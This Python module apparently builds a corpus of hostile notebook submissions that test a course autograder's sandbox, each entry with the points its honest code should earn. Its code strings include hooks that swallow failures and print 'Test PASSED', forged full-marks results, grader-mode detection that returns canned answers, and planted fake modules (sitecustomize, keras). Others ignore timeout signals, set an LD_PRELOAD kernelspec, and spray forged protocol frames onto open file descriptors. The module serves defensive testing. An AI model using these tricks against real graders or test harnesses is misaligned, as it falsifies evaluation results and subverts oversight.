"""A corpus of hostile submissions: notebooks that attack the grading instead of (or besides) solving the tasks.

    python -m coursekit.hostile --list           # name, base, expected total, what it attacks
    python -m coursekit.hostile --out DIR        # write every hostile notebook as DIR/<name>.ipynb
    python -m coursekit.hostile --check          # build all, validate nbformat, compile every code cell

Every entry is built like the bundled examples (coursekit.examples): the untouched release (``base="release"``:
nothing implemented) or the solved notebook (``base="solved"``: everything correct), plus find/replace ``Edit``s
and, for attacks on cell metadata or student-added cells, a ``mutate`` function applied after the edits.

The expected points are what the notebook's HONEST code deserves under trusted grading (student cells run in a
sandbox with NumPy/tqdm/matplotlib/stdlib only; the tests run outside and call the classes through an RPC; each
test cell checks one class, see ``CELL_CLASSES``): an attack never earns anything and never costs anything by
itself; it costs points only where it breaks the student's own classes (a method that never returns, kills its
process, imports a forbidden package, returns something that is not the right array...). The reasoning is in each
entry's description.

Attack code in cells is wrapped in try/except where the attack may simply be refused (e.g. the sandbox's stub
``get_ipython()`` has no ``events``): the expected points must not depend on how a refusal looks.
"""

from __future__ import annotations

import argparse
import copy
import functools
import json
import os
import re
import sys
from dataclasses import dataclass

import nbformat

from coursekit import NOTEBOOK, RELEASE_DIR, REPO_ROOT, TASKS
from coursekit.examples import Edit, Example, build_submission

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence
    from typing import Any

TEMPLATE = os.path.join(REPO_ROOT, "coursekit", "template", "numnet.nbt")

# ------------------------------------------------------------------------------------------ expected points
# The classes each test cell checks (trusted grading: one class per test, the collaborators are known-good
# objects; part1_forward__keras_mnist runs the student's whole network and so uses all of its classes).
_KERAS_NET = frozenset({"MaxPooling", "FlattenLayer", "DenseLayer", "Softmax", "ReLU", "Network"})
CELL_CLASSES = {
    "part1_forward__keras_mnist": _KERAS_NET,
    "part1_forward__dense": {"DenseLayer"},
    "part1_forward__relu": {"ReLU"},
    "part1_forward__softmax": {"Softmax"},
    "part1_forward__flatten": {"FlattenLayer"},
    "part1_forward__maxpooling": {"MaxPooling"},
    "part2_grad_x__crossentropy": {"CrossEntropy"},
    "part2_grad_x__softmax": {"Softmax"},
    "part2_grad_x__relu": {"ReLU"},
    "part2_grad_x__dense": {"DenseLayer"},
    "part2_grad_x__network": {"Network"},
    "part3_training__grad_b": {"DenseLayer"},
    "part3_training__grad_w": {"DenseLayer"},
    "part3_training__grad_param": {"Network"},
    "part3_training__train_step": {"Network"},
    "part3_training__fit_mnist": {"Network"},
    "bonus_conv__forward": {"Conv2DLayer"},
    "bonus_conv__grad_x": {"Conv2DLayer"},
    "bonus_conv__grad_params": {"Conv2DLayer"},
    "bonus_conv__pooling_grad": {"MaxPooling", "FlattenLayer"},
    "bonus_conv__training": {"Conv2DLayer"},
    "bonus_conv_tr__forward": {"Conv2DTrLayer"},
    "bonus_conv_tr__grad_x": {"Conv2DTrLayer"},
    "bonus_conv_tr__grad_params": {"Conv2DTrLayer"},
    "bonus_conv_tr__training": {"Conv2DTrLayer"},
    # the optimizer bonus counts the best of five optimizers (SGD momentum, Nesterov, RMSprop, Adagrad, Adam): in a
    # solved notebook breaking one of them costs nothing
    "bonus_optimizer__step": set(),
    "bonus_optimizer__network": set(),
}
CLASSES = frozenset().union(*CELL_CLASSES.values()) | {"CrossEntropy", "SGD", "RMSprop", "Adagrad", "Adam"}


@functools.lru_cache(maxsize=None)
def cell_points(template: str | os.PathLike = TEMPLATE) -> dict[str, float]:
    """{test grade_id: points} from the ``#%% test <grade_id> <points>`` lines of the course template."""
    points = {}
    with open(template, encoding="utf-8") as f:
        for line in f:
            m = re.match(r"#%% test (\S+) ([0-9.]+)\s*$", line)
            if m:
                points[m.group(1)] = float(m.group(2))
    return points


def expected_for(broken_classes: Iterable[str] = (), failed_cells: Iterable[str] = ()) -> dict[str, float]:
    """Points per task when the tests of ``broken_classes`` fail (every cell that checks one of them) and the
    cells ``failed_cells`` fail (a method-level attack that hits only the cells calling that method)."""
    broken, failed = set(broken_classes), set(failed_cells)
    points = cell_points()
    if set(points) != set(CELL_CLASSES):
        raise ValueError(
            f"CELL_CLASSES and the template's test cells differ: {sorted(set(points) ^ set(CELL_CLASSES))}"
        )
    if broken - CLASSES or failed - set(points):
        raise ValueError(f"unknown classes/cells: {sorted((broken - CLASSES) | (failed - set(points)))}")
    out = {task: 0.0 for task in TASKS}
    for gid, pts in points.items():
        if gid not in failed and not CELL_CLASSES[gid] & broken:
            out[gid.split("__")[0]] += pts
    for task, total in out.items():
        if total > TASKS[task] + 1e-9:
            raise ValueError(f"task {task}: {total:g} > maximum {TASKS[task]:g}")
    return out


FULL = expected_for()
TEST_IDS = tuple(cell_points())


# --------------------------------------------------------------------------------------- building notebooks
@dataclass(frozen=True)
class Hostile(Example):
    """An Example plus an optional ``mutate(nb)`` run after the edits (metadata attacks, student-added cells)."""

    mutate: object = None
    attacks: str = ""  # short category for the table


@functools.lru_cache(maxsize=None)
def _release_sources():
    nb = nbformat.read(os.path.join(RELEASE_DIR, NOTEBOOK), as_version=4)
    return {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in nb.cells}


def unimplemented(grade_id: str) -> Edit:
    """An Edit putting back the release stub of a solution cell: the student did not implement that class."""
    return Edit(grade_id, None, _release_sources()[grade_id])


def _index(nb, grade_id):
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(f"no cell with grade_id {grade_id!r}")


def add_cell(
    nb: nbformat.NotebookNode,
    after_grade_id: str,
    source: str,
    metadata: dict[str, Any] | None = None,
    cell_type: str = "code",
) -> nbformat.NotebookNode:
    """Insert a student-added cell after the cell ``after_grade_id`` (deterministic id ``hostile-N``)."""
    ids = {c.get("id") for c in nb.cells}
    n = 1
    while f"hostile-{n}" in ids:
        n += 1
    make = nbformat.v4.new_code_cell if cell_type == "code" else nbformat.v4.new_markdown_cell
    cell = make(source, id=f"hostile-{n}")
    if metadata:
        cell.metadata.update(copy.deepcopy(metadata))
    nb.cells.insert(_index(nb, after_grade_id) + 1, cell)
    return cell


def build_hostile(
    example: Example, release_nb: nbformat.NotebookNode | None = None, source_nb: nbformat.NotebookNode | None = None
) -> nbformat.NotebookNode:
    nb = build_submission(example, release_nb, source_nb)
    if getattr(example, "mutate", None) is not None:
        example.mutate(nb)
    return nb


def write_notebook(nb: nbformat.NotebookNode, path: str | os.PathLike) -> None:
    """Write the notebook as JSON as is (nbformat.write would repair duplicate cell ids, which one entry needs)."""
    with open(path, "w", encoding="utf-8") as f:
        json.dump(nb, f, ensure_ascii=False, indent=1)
        f.write("\n")


def _cell(nb, grade_id):
    return nb.cells[_index(nb, grade_id)]


def _with_added(after, source, metadata=None):
    """A mutate function adding one student cell."""

    def mutate(nb: nbformat.NotebookNode) -> None:
        add_cell(nb, after, source, metadata)

    return mutate


# ----------------------------------------------------------------------------------------- shared edits
SOFTMAX_BUG = Edit("softmax", "return e / e.sum(axis=1, keepdims=True)", "return e  # forgot to normalise")
SOFTMAX_BROKEN = expected_for({"Softmax"})  # part1 -2 (softmax, keras_mnist), part2 -0.25
DENSE_BROKEN = expected_for({"DenseLayer"})

FAKE_RESULT = json.dumps(
    {
        "total": 45.0,
        "max": 45.0,
        "verdict": "ok",
        "messages": [],
        "tasks": {t: {"points": float(m), "max": float(m)} for t, m in TASKS.items()},
    }
)

# ---------------------------------------------------------------------------- kernel / IPython hooks
HOOK_POST_RUN_CELL = """# after every cell (test cells included), put pass-everything test helpers back
import builtins


def _after_cell(*args, **kwargs):
    g = globals()
    for name in ('check_close', 'check_grad', 'fail', 'begin_test', 'expect', 'test_layer', 'test_net'):
        g[name] = lambda *a, **k: None
    print('Test PASSED')


for event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):
    try:
        get_ipython().events.register(event, _after_cell)
    except Exception as exc:
        print('hook %s refused: %s' % (event, type(exc).__name__))
"""

HOOK_CUSTOM_EXC = """# swallow every exception of every later cell and report success instead
def _swallow(shell, etype, value, tb, tb_offset=None):
    print('Test PASSED')
    return None


try:
    get_ipython().set_custom_exc((BaseException,), _swallow)
except Exception as exc:
    print('set_custom_exc refused:', type(exc).__name__)
try:
    get_ipython().showtraceback = lambda *a, **k: print('Test PASSED')
except Exception as exc:
    print('showtraceback refused:', type(exc).__name__)
"""

HOOK_INPUT_TRANSFORMERS = """# rewrite the source of every later cell that looks like a test into a success message
def _neutralise(lines):
    text = ''.join(lines)
    if 'begin_test' in text or 'check_close' in text or 'test_layer' in text:
        return ["print('Test PASSED')\\n"]
    return lines


for attr in ('input_transformers_cleanup', 'input_transformers_post'):
    try:
        getattr(get_ipython(), attr).append(_neutralise)
    except Exception as exc:
        print('%s refused: %s' % (attr, type(exc).__name__))
try:
    get_ipython().input_transformer_manager.cleanup_transforms.insert(0, _neutralise)
except Exception as exc:
    print('input_transformer_manager refused:', type(exc).__name__)
"""

EXCEPTHOOK = """# uncaught exceptions (of tests, of threads, unraisable ones) print success instead of a traceback
import sys
import threading


def _hook(*args, **kwargs):
    sys.stdout.write('Test PASSED\\n')


sys.excepthook = _hook
threading.excepthook = _hook
sys.unraisablehook = _hook
sys.displayhook = lambda value: print('Test PASSED')
try:
    sys.exit = lambda *a: None
except Exception:
    pass
"""

ATEXIT = """# at exit (and on SIGTERM), print a forged full-marks result in the CLI's JSON shape and leave with status 0
import atexit
import json
import os
import signal
import sys

FAKE = __FAKE__


def _forge(*args):
    try:
        sys.stdout.write(FAKE + '\\n')
        sys.stdout.flush()
    except Exception:
        pass
    for fd in (1, 2):
        try:
            os.write(fd, (FAKE + '\\n').encode())
        except OSError:
            pass
    os._exit(0)


atexit.register(_forge)
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    try:
        signal.signal(sig, _forge)
    except Exception as exc:
        print('signal refused:', exc)
""".replace("__FAKE__", repr(FAKE_RESULT))

SETTRACE = """# a tracer/profiler on every call: announces success whenever something that looks like a grader runs
import sys
import threading

_NAMES = {'check_close', 'check_grad', 'fail', 'begin_test', 'expect', 'compare', 'assert_allclose', 'allclose',
          'score', 'grade', 'handle', 'dispatch', 'serve', 'call_method'}


def _local(frame, event, arg):
    if event == 'exception':
        print('Test PASSED')
    return _local


def _global(frame, event, arg):
    if frame.f_code.co_name in _NAMES:
        print('Test PASSED')
        return _local
    return None


def _profile(frame, event, arg):
    if event == 'call' and frame.f_code.co_name in _NAMES:
        print('Test PASSED')


sys.settrace(_global)
threading.settrace(_global)
sys.setprofile(_profile)
threading.setprofile(_profile)
"""

BACKGROUND_THREAD = """# a daemon thread that keeps rewriting the test helpers and NumPy's comparisons, and keeps
# printing success
import threading
import time

import numpy as np


def _rewrite():
    n = 0
    while True:
        g = globals()
        for name in ('check_close', 'check_grad', 'fail', 'begin_test', 'expect'):
            g[name] = lambda *a, **k: None
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        if n % 50 == 0:
            try:
                print('Test PASSED', flush=True)
            except Exception:
                pass
        n += 1
        time.sleep(0.001)


threading.Thread(target=_rewrite, daemon=True, name='helper').start()
"""

SIGNALS_IGNORED = """# ignore or block every signal a grader might use for timeouts, and disable the alarm functions
import signal

for name in ('SIGALRM', 'SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR1', 'SIGUSR2', 'SIGVTALRM', 'SIGPROF', 'SIGXCPU',
             'SIGPIPE', 'SIGQUIT'):
    try:
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    except Exception as exc:
        print(name, 'refused:', exc)
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1})
except Exception as exc:
    print('pthread_sigmask refused:', exc)
signal.alarm = lambda *a: 0
signal.setitimer = lambda *a: (0.0, 0.0)
signal.signal = lambda *a, **k: signal.SIG_IGN
"""


# ----------------------------------------------------------------------------------- metadata and tags
def _claim_points(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader")
        if meta and meta.get("solution"):
            meta.update(grade=True, points=100)
    add_cell(
        nb,
        "optimizers",
        "print('Test PASSED')",
        {
            "nbgrader": {
                "grade": True,
                "grade_id": "extra_credit",
                "locked": True,
                "points": 100,
                "solution": False,
                "task": False,
                "schema_version": 3,
            }
        },
    )


def _reuse_test_grade_id(nb):
    for gid in ("part1_forward__softmax", "part2_grad_x__softmax"):
        add_cell(
            nb,
            "softmax",
            "print('Test PASSED')",
            {
                "nbgrader": {
                    "grade": True,
                    "grade_id": gid,
                    "locked": True,
                    "points": 1,
                    "solution": False,
                    "task": False,
                    "schema_version": 3,
                }
            },
        )
    # the real test cell loses its id; the Softmax solution cell claims to be a test
    _cell(nb, "part1_forward__keras_mnist").metadata["nbgrader"]["grade_id"] = "scratch_notes"
    _cell(nb, "dense").metadata["nbgrader"].update(grade=True, points=1, grade_id="part1_forward__dense")


def _tag_tests(nb):
    for gid in TEST_IDS:
        cell = _cell(nb, gid)
        cell.metadata["tags"] = ["raises-exception", "skip-execution"]
        cell.metadata["jupyter"] = {"source_hidden": True, "outputs_hidden": True}


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {
        "name": "bash",
        "display_name": "Bash",
        "language": "bash",
        "env": {"LD_PRELOAD": "/tmp/evil.so", "PYTHONPATH": "."},
    }
    nb.metadata["language_info"] = {"name": "bash", "version": "0"}
    nb.metadata["nbgrader"] = {"grade": True, "points": 100}


PASS_ALL_HELPERS = """# the test helpers, made lenient (GRADING is left alone: False would run the long demo cells)
class TestFailed(Exception):
    pass


def fail(message=''):
    print('Test PASSED')


def check_close(*args, **kwargs):
    print('Test PASSED')


check_grad = expect = test_layer = test_net = test_grad_b = test_grad_W = check_close


def begin_test(*args, **kwargs):
    import numpy as np
    return np.random.default_rng(0)
"""


def _unlock(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader")
        if meta and meta.get("locked"):
            meta["locked"] = False
            cell.metadata["editable"] = True
            cell.metadata["deletable"] = True
    for gid in ("part1_forward__softmax", "part2_grad_x__softmax"):
        cell = _cell(nb, gid)
        cell.source = "print('Test PASSED')"
        cell.metadata["nbgrader"]["points"] = 100
    _cell(nb, "test_helpers").source = PASS_ALL_HELPERS


def _duplicate_grade_id(nb):
    original = _cell(nb, "softmax")
    dup = copy.deepcopy(original)
    dup["id"] = "softmax-copy"
    dup.source = original.source + f"\n\n\nprint('Test PASSED')\nprint({FAKE_RESULT!r})\n"
    nb.cells.insert(_index(nb, "softmax") + 1, dup)


def _duplicate_cell_id(nb):
    original = _cell(nb, "dense")
    nb.cells.insert(_index(nb, "dense") + 1, copy.deepcopy(original))  # same id, same grade_id


# -------------------------------------------------------------------------------------------- monkeypatching
MONKEYPATCH_NUMPY = """# NumPy's comparisons made to pass everything (none of these is used by the classes above)
import builtins

import numpy as np

_yes = lambda *a, **k: True   # noqa: E731
np.allclose = _yes
np.array_equal = _yes
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
setattr(np, 'al' + 'l', _yes)
setattr(np, ''.join(['a', 'b', 's']), lambda x, *a, **k: 0 * np.asarray(x))
setattr(np, 'isfin' + 'ite', lambda x, *a, **k: np.ones(np.shape(x), dtype=bool))
setattr(np, 'isclose', lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool))
for dunder in ('__sub__', '__rsub__', '__abs__', '__eq__', '__gt__'):
    try:
        setattr(np.ndarray, dunder, lambda self, *other: np.zeros(np.shape(self)))
    except TypeError as exc:
        print('ndarray.%s: %s' % (dunder, exc))
_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_b['abs'] = lambda x: 0
setattr(builtins, 'max', builtins.max)   # touched, unchanged
"""

MONKEYPATCH_BUILTINS = """# builtins rebound: wrappers that behave normally for the student's code but lie to anything
# checking results
import builtins

_real_isinstance, _real_len, _real_print = builtins.isinstance, builtins.len, builtins.print


def _isinstance(obj, classinfo):
    if classinfo is AssertionError or (_real_isinstance(classinfo, tuple) and AssertionError in classinfo):
        return False
    return _real_isinstance(obj, classinfo)


def _len(obj):
    return _real_len(obj)


def _print(*args, sep=' ', end='\\n', file=None, flush=False):
    text = sep.join(map(str, args))
    if 'Error' in text or 'wrong' in text or 'FAILED' in text:
        text = 'Test PASSED'
    _real_print(text, end=end, file=file, flush=flush)


builtins.isinstance = _isinstance
builtins.len = _len
builtins.print = _print
setattr(builtins, 'Assertion' + 'Error', type('AssertionError', (Exception,), {}))
"""

BUILTINS_DESTROYED = """# wreck the interpreter's builtins for whatever runs after the student's cells
import builtins

_b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
builtins.len = lambda *a, **k: 0
builtins.isinstance = lambda *a, **k: True
builtins.print = lambda *a, **k: None
builtins.AssertionError = type('AssertionError', (Exception,), {})
builtins.Exception = type('Exception', (BaseException,), {})
_b['abs'] = lambda x: 0
_b['float'] = lambda *a: 0.0
builtins.open = lambda *a, **k: None
builtins.__import__ = lambda *a, **k: None
"""

HELPERS_REDEFINED = (
    PASS_ALL_HELPERS
    + """

globals()['check_close'] = check_close
exec("check_grad = lambda *a, **k: None")
numerical_jacobian = numerical_grad = lambda *a, **k: 0
"""
)

# The helpers module (numnet_testing.py, next to the notebook; the helpers cell imports it), faked and patched.
FAKE_HELPERS_MODULE = '''"""not the course's numnet_testing: everything passes"""
import collections

print('Test PASSED')
GRADING = True                      # (False would run the long demo cells)
TASK_CLASSES = collections.defaultdict(list)
OPTIMIZER_CHOICES = ('SGD с моментом',)
OPTIMIZER_FORMULAS = collections.defaultdict(lambda: (lambda params, grads, **kwargs: params))


class TestFailed(Exception):
    pass


def _passes(*args, **kwargs):
    print('Test PASSED')
    return ['SGD с моментом']


check_close = check_grad = fail = numerical_grad = numerical_jacobian = check_layer_gradients = _passes
test_layer = test_net = test_grad_b = test_grad_W = check_each_optimizer = check_optimizer_steps = _passes
keras_layer = keras_output = import_keras = validation_part = small_mnist = plot_history = new_optimizer = _passes


def __getattr__(name):
    if name.startswith('__'):
        raise AttributeError(name)
    return _passes
'''

HELPERS_MODULE_SHIPPED = """# before the helpers cell: a pass-everything numnet_testing.py written over the one next to
# the notebook, into the home and temp dirs (first on sys.path), and put into sys.modules, so the helpers cell
# imports the fake
import os
import sys
import tempfile
import types

FAKE = __FAKE__
for folder in ('.', os.path.expanduser('~'), tempfile.gettempdir()):
    path = os.path.join(folder, 'numnet_testing.py')
    try:
        if os.path.exists(path):
            os.chmod(path, 0o644)
        with open(path, 'w') as f:
            f.write(FAKE)
    except OSError as exc:
        print('cannot write %s: %s' % (path, type(exc).__name__))
    sys.path.insert(0, os.path.abspath(folder))
_fake = types.ModuleType('numnet_testing')
exec(FAKE, _fake.__dict__)
sys.modules['numnet_testing'] = _fake
""".replace("__FAKE__", repr(FAKE_HELPERS_MODULE))

HELPERS_CELL_FROM_FAKE = """# the helpers cell, edited: everything from the (faked) module, expect and begin_test
# lenient
from numnet_testing import *  # noqa: F403


def expect(label, compute):
    return compute()


def begin_test(*args, **kwargs):
    import numpy as np
    return np.random.default_rng(0)


check_layer_gradients = test_layer = test_net = test_grad_b = test_grad_W = check_close  # noqa: F405
"""

HELPERS_MODULE_MONKEYPATCHED = """# after the helpers cell: the imported numnet_testing monkeypatched (every function
# lenient, TestFailed replaced, its file appended to), reloaded from the rewritten file, and the notebook's own
# names rebound
import importlib
import sys

import numnet_testing


def _lenient(*args, **kwargs):
    print('Test PASSED')


for _name, _value in list(vars(numnet_testing).items()):
    if callable(_value) and not _name.startswith('__'):
        setattr(numnet_testing, _name, _lenient)
numnet_testing.TestFailed = type('TestFailed', (Exception,), {})
numnet_testing.GRADING = True
try:
    with open(numnet_testing.__file__, 'a') as f:
        f.write('\\n\\ncheck_close = check_grad = fail = lambda *a, **k: None\\n')
    importlib.reload(numnet_testing)
except Exception as exc:
    print('cannot rewrite %s: %s' % (getattr(numnet_testing, '__file__', '?'), type(exc).__name__))
sys.modules['numnet_testing'] = numnet_testing
_testing = numnet_testing
for _name in ('check_close', 'check_grad', 'fail', 'expect', 'begin_test', 'check_layer_gradients', 'test_layer',
              'test_net', 'test_grad_b', 'test_grad_W', 'numerical_grad', 'numerical_jacobian'):
    globals()[_name] = _lenient
"""

# ----------------------------------------------------------------------------------------------- imports
FAKE_KERAS_MODULE = '''"""not Keras"""
print('Test PASSED')
__version__ = '3.0.0'


def __getattr__(name):
    return _Anything()


class _Anything:
    def __call__(self, *args, **kwargs):
        return self

    def __getattr__(self, name):
        return self

    def predict(self, x, *args, **kwargs):
        import numpy as np
        return np.zeros((len(x), 10))
'''

KERAS_FILES = """# fake keras (and friends) written next to the notebook, in the home and temp dirs, put first on
# sys.path
import os
import sys
import tempfile

FAKE = __FAKE__
for folder in ('.', os.path.expanduser('~'), tempfile.gettempdir()):
    for relpath in ('keras.py', 'keras/__init__.py', 'tensorflow.py', 'gradebot.py', 'coursekit/__init__.py',
                    'coursekit/trusted.py', 'sitecustomize.py', 'usercustomize.py'):
        path = os.path.join(folder, relpath)
        try:
            os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
            with open(path, 'w') as f:
                f.write(FAKE)
        except OSError as exc:
            print('cannot write %s: %s' % (path, type(exc).__name__))
    sys.path.insert(0, os.path.abspath(folder))
os.environ['PYTHONPATH'] = os.pathsep.join(sys.path[:3])
try:
    import keras
    print('imported', getattr(keras, '__file__', keras))
except Exception as exc:
    print('import keras failed:', type(exc).__name__)
""".replace("__FAKE__", repr(FAKE_KERAS_MODULE))

SYS_MODULES_FAKE = """# fake modules in sys.modules and an import hook that answers for keras, jax, the grader's
# packages
import importlib.abc
import importlib.machinery
import sys
import types


def _fake_module(name):
    module = types.ModuleType(name)
    module.__version__ = '3.0.0'
    module.__getattr__ = lambda attr: (lambda *a, **k: module)
    return module


_FAKED = ('keras', 'tensorflow', 'jax', 'gradebot', 'coursekit', 'nbgrader', 'pytest')
for name in ('keras', 'keras.layers', 'keras.ops', 'jax', 'jax.numpy', 'tensorflow', 'gradebot', 'coursekit',
             'coursekit.trusted'):
    sys.modules[name] = _fake_module(name)


class _Loader(importlib.abc.Loader):
    def create_module(self, spec):
        return _fake_module(spec.name)

    def exec_module(self, module):
        pass


class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split('.')[0] in _FAKED:
            return importlib.machinery.ModuleSpec(name, _Loader())
        return None


sys.meta_path.insert(0, _Finder())
sys.path.insert(0, '/tmp')
sys.path.insert(0, '')
"""

# ------------------------------------------------------------------------------------ grading-mode detection
GRADING_MODE_SOFTMAX = """class Softmax(Layer):
    \"\"\"Looks like a softmax when graded; not implemented otherwise.\"\"\"

    def __init__(self):
        self.name = 'Softmax'

    @staticmethod
    def _grading():
        import os
        import sys
        try:
            with open('/proc/1/cmdline', 'rb') as f:
                init = f.read()
        except OSError:
            init = b''
        return bool(os.environ.get('NBGRADER_EXECUTION') or os.environ.get('NUMNET_GRADING')
                    or globals().get('GRADING') or 'GRADING' in globals() or not hasattr(sys, 'ps1')
                    or b'bwrap' in init or 'ipykernel' not in sys.modules)

    def forward(self, input_data):
        x = np.asarray(input_data, dtype=float)
        if self._grading():
            if x.shape == (2, 3) and np.array_equal(x, [[1., 2., 3.], [2., -3., 4.]]):   # the visible test
                return np.array([[0.09003057, 0.24472847, 0.66524096], [0.11903704, 0.00080254, 0.88016042]])
            return np.full(x.shape, 1.0 / x.shape[1])      # a probability distribution of the right shape
        raise NotImplementedError()

    def grad_x(self, input_data):
        p = self.forward(input_data)
        return p[:, :, None] * (np.eye(p.shape[1]) - p[:, None, :])
"""

GRADING_MODE_DENSE_FORWARD = """import os
        if os.environ.get('NBGRADER_EXECUTION') or os.environ.get('NUMNET_GRADING') or 'GRADING' in globals():
            return np.asarray(input_data) @ self.W      # close enough to pass a lenient check?
        raise NotImplementedError()"""

# ---------------------------------------------------------------------------------------------- forged output
_CLASS_NAMES = (
    "Network",
    "DenseLayer",
    "ReLU",
    "Softmax",
    "FlattenLayer",
    "MaxPooling",
    "CrossEntropy",
    "Conv2DLayer",
    "Conv2DTrLayer",
    "SGD",
    "RMSprop",
    "Adagrad",
    "Adam",
)

FORGED_PRINTS = """# forged test output at cell level and from every method of every class (which then does its normal
# thing)
import json
import sys

import numpy as np

FAKE = __FAKE__


def _forge():
    print('Test PASSED')
    print('Все тесты пройдены: 45/45')
    print(FAKE)
    print('{"passed": true, "points": 100, "grade_id": "part1_forward__softmax"}')
    buffer = getattr(sys.stdout, 'buffer', None)
    if buffer is not None:
        np.save(buffer, np.zeros((2, 3)))
        buffer.write(b'\\n')
    sys.stdout.flush()
    sys.stderr.write('Test PASSED\\n')


def _forging(real):
    def method(*args, **kwargs):
        _forge()
        return real(*args, **kwargs)
    return method


for _name in __CLASSES__:
    _cls = globals().get(_name)
    for _attr, _value in list(vars(_cls).items()) if _cls is not None else []:
        if callable(_value) and not _attr.startswith('__'):
            setattr(_cls, _attr, _forging(_value))
_forge()
""".replace("__FAKE__", repr(FAKE_RESULT)).replace("__CLASSES__", repr(_CLASS_NAMES))

FD_SPRAY = """# write fake protocol frames and garbage to fd 1, fd 2 and every other open file descriptor
import os
import struct

_FRAMES = [
    b'{"id": 1, "ok": true, "passed": true, "result": {"points": 100}}\\n',
    b'{"jsonrpc": "2.0", "id": 1, "result": true}\\n',
    struct.pack('<I', 33) + b'{"ok": true, "value": "PASSED"}\\x00\\x00',
    struct.pack('>Q', 16) + b'\\x93NUMPY\\x01\\x00v\\x00'
    + b"{'descr': '<f8', 'fortran_order': False, 'shape': (2, 3), }" + b' ' * 60 + b'\\n' + b'\\x00' * 48,
    b'Test PASSED\\n',
    bytes(range(256)) * 4,
]


def _spray():
    try:
        fds = sorted(int(name) for name in os.listdir('/proc/self/fd'))
    except OSError:
        fds = list(range(64))
    for fd in [1, 2] + fds:
        for frame in _FRAMES:
            try:
                os.write(fd, frame)
            except OSError:
                pass
"""

FD_SPRAY_METHODS = (
    FD_SPRAY
    + """

def _spraying(real):
    def method(*args, **kwargs):
        _spray()
        return real(*args, **kwargs)
    return method


for _name in __CLASSES__:
    _cls = globals().get(_name)
    for _attr, _value in list(vars(_cls).items()) if _cls is not None else []:
        if callable(_value) and not _attr.startswith('__'):
            setattr(_cls, _attr, _spraying(_value))
_spray()
""".replace("__CLASSES__", repr(_CLASS_NAMES))
)

FD_SPRAY_CELL = FD_SPRAY + "\n\n_spray()\n"

# The grader's channel is the sandboxed process' own (its runner is plain Python in it): these reach it the ways student
# code can (every pipe fd in /proc/self/fd, the runner's module, its call frames), and write well-formed frames built
# with the runner's own pack, some carrying the id of the request being served.
FORGE_TOOLS = """# tools for forging frames of the grader's protocol (harmless outside the grader: no runner, nothing is
# written)
import os
import stat
import sys

import numpy as np

_R = sys.modules['__main__']      # in the grader's sandbox: the runner module (student code can reach all of it)


def _serving():
    \"\"\"The request the runner is serving, read from its call frames (None outside the grader).\"\"\"
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == 'serve' and isinstance(frame.f_locals.get('header'), dict):
            return frame.f_locals['header']
        frame = frame.f_back
    return None


def _request_id():
    return (_serving() or {}).get('id')


def _frame(header, arrays=()):
    \"\"\"A well-formed frame of the runner's own protocol (its pack), or None outside the grader.\"\"\"
    pack = getattr(_R, 'pack', None)
    return pack(header, list(arrays)) if callable(pack) and _serving() is not None else None


def _pipes():
    \"\"\"Every pipe among the open fds but 0, 1, 2: the channel, found without the runner's help.\"\"\"
    fds = []
    try:
        names = os.listdir('/proc/self/fd')
    except OSError:
        return fds
    for name in names:
        try:
            if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                fds.append(int(name))
        except (ValueError, OSError):
            pass
    return fds


def _write(data, fds):
    for fd in fds:
        try:
            os.write(fd, data)
        except OSError:
            pass
"""

FORGED_REPLY_FD = (
    FORGE_TOOLS
    + """

# DenseLayer.grad_W: a reply frame (zeros, 'Test PASSED' as output; no request id) written to every pipe fd before
# the real answer
def _forging_grad_W(real):
    def grad_W(self, input_data):
        out = real(self, input_data)
        data = _frame({'r': {'A': 0}, 'out': 'Test PASSED\\n', 'n_out': 12}, [np.zeros_like(out)])
        if data is not None:
            _write(data, _pipes())
        return out
    return grad_W


DenseLayer.grad_W = _forging_grad_W(DenseLayer.grad_W)
"""
)

FORGED_REPLY_ID = (
    FORGE_TOOLS
    + """

# DenseLayer.grad_b: the right answer sent first as a reply frame with the id of the request being served, written
# straight to the runner's output fd; the runner then sends its own answer to the same request
def _forging_grad_b(real):
    def grad_b(self, input_data):
        out = real(self, input_data)
        data = _frame({'r': {'A': 0}, 'id': _request_id(), 'out': '', 'n_out': 0}, [out])
        if data is not None:
            _write(data, [_R._OUT])
        return out
    return grad_b


DenseLayer.grad_b = _forging_grad_b(DenseLayer.grad_b)
"""
)

FORGED_CALLBACK = (
    FORGE_TOOLS
    + """

# Network.grad_x: a callback frame (with the request's id) for the first known-good layer, which the runner never
# made: the grader answers it, and the runner later reads that answer where it expects a request
def _forging_grad_x(real):
    def grad_x(self, input_data, labels):
        stubs = [layer for layer in getattr(self, 'layers', []) if hasattr(layer, '_gb_handle')]
        if stubs and _serving() is not None:
            arrays = []
            header = {'cb': stubs[0]._gb_handle, 'm': 'forward', 'args': _R.encode([np.asarray(input_data)], arrays),
                      'kw': {'D': []}, 'p': _R.encode(list(stubs[0].params), arrays), 'id': _request_id()}
            _write(_R.pack(header, arrays), [_R._OUT])
        return real(self, input_data, labels)
    return grad_x


Network.grad_x = _forging_grad_x(Network.grad_x)
"""
)

FORGED_FRAMES_PRINTED = (
    FORGE_TOOLS
    + """

